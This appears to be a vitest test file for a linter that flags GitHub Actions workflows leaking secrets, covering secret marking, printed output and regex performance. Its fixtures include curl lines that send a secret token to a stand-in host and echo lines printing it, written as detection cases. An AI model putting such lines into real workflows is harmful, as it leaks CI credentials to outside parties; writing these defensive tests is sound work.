import { describe, expect, test } from "vitest";
import { readWorkflowFile } from "../../../src/core/workflows/read.ts";
import {
  outputOf,
  printsEnvironment,
  secretLines,
  secretMark,
  traces,
} from "../../../src/core/workflows/secret-flows.ts";
import { loadSyntax } from "../../../src/adapters/syntax/load.ts";
import { rules } from "../../../src/core/rules/index.ts";
import { buildViews } from "../../../src/core/views/views.ts";
import type { ChangeSet } from "../../../src/core/change/change-set.ts";
import { contextOf, policyOf } from "../example-context.ts";

const tools = { syntax: await loadSyntax(), memo: <T>(_: string, compute: () => T): T => compute() };
const path = ".github/workflows/ci.yml";

function workflowOf(script: string): string {
  const env = '        env: { TOKEN: "${{ secrets.TOKEN }}" }';
  return `on: push\njobs:\n  a:\n    steps:\n      - run: |\n          ${script}\n${env}\n`;
}

function markedOf(script: string): readonly string[] {
  const text = workflowOf(script);
  const found = readWorkflowFile({ path, side: "head", sha: text, text }, "workflow", tools.memo);
  if (!found.ok || found.workflow === null) throw new Error("the workflow was not read");
  return secretLines(found.workflow).map(({ marked }) => marked.replaceAll(secretMark, "*"));
}

/** Ids of the rules on secrets that say something of a workflow that comes with the script. */
function toldOf(script: string): readonly string[] {
  const text = workflowOf(script);
  const after = { mode: "100644", sha: text, content: { kind: "text", text } } as const;
  const change: ChangeSet = { files: [{ path, status: "added", before: null, after }] };
  const { views } = buildViews(change, tools);
  const context = contextOf(policyOf(undefined), change, views);
  const judging = rules.filter(({ id }) => id.startsWith("gha-secret-"));
  return judging.filter((rule) => rule.observe(views, {}, context).length > 0).map(({ id }) => id);
}

describe("a long line of a script is looked at to its end", () => {
  const filler = "true ".repeat(1_800);
  test.each([
    [`${filler}; echo $TOKEN`, "gha-secret-printed"],
    [`${filler}; curl "https://hooks.acme.example/?token=$TOKEN"`, "gha-secret-sent"],
    [`${filler}; curl https://robot:$TOKEN@hooks.acme.example/`, "gha-secret-sent"],
  ])("%# %o", (script, rule) => expect(toldOf(script)).toContain(rule));
});

describe("mentions of a secret", () => {
  test.each([
    ["a ${{ secrets.KEY }} b", "a * b"],
    ["a ${{ format('{0}', secrets.KEY) }} b", "a * b"],
    ["a ${{ env.TOKEN }} ${{ github.sha }}", "a * ${{ github.sha }}"],
    ["a ${TOKEN:-none} $TOKEN ${OTHER} $OTHER", "a * * ${OTHER} $OTHER"],
    ["a ${OTHER} $TOKEN $env:TOKEN", "a ${OTHER} * *"],
    ["a ${{ github.sha }} ${{ secrets", "a ${{ github.sha }} ${{ secrets"],
  ])("%s", (script, marked) => expect(markedOf(script)).toEqual([marked]));
});

describe("what is printed goes no further than a variable", () => {
  test.each([
    ["x=$(echo $TOKEN)", null],
    ["x=`printf $TOKEN`", null],
    ["cat <(echo $TOKEN)", null],
    ["x=$(date) && echo $TOKEN", { kind: "log" }],
    ["echo $TOKEN $(date)", { kind: "log" }],
  ])("%s", (line, output) => expect(outputOf(line)).toEqual(output));
});

// A pattern that looks at the same text again and again would not end within the time that a test has.
describe("hostile lines are read in one go", () => {
  const many = 300_000;
  const parts = [
    "$(",
    "<(",
    "`",
    "echo ",
    "${A",
    "${{",
    "${{ }",
    "| ",
    "> ",
    "tee ",
    "$TOKEN",
    "https://",
    "https://?$TOKEN",
  ];
  test.each(parts)("%j again and again", (part) => {
    const line = `echo ${part.repeat(many / part.length)}`;
    expect([outputOf(line), printsEnvironment(line), traces.test(line)]).toHaveLength(3);
    expect(markedOf(line.slice(0, 15_999))).toHaveLength(1);
    expect(toldOf(Array.from({ length: 20 }, () => line.slice(0, 15_000)).join("\n          "))).toBeInstanceOf(Array);
  });
});
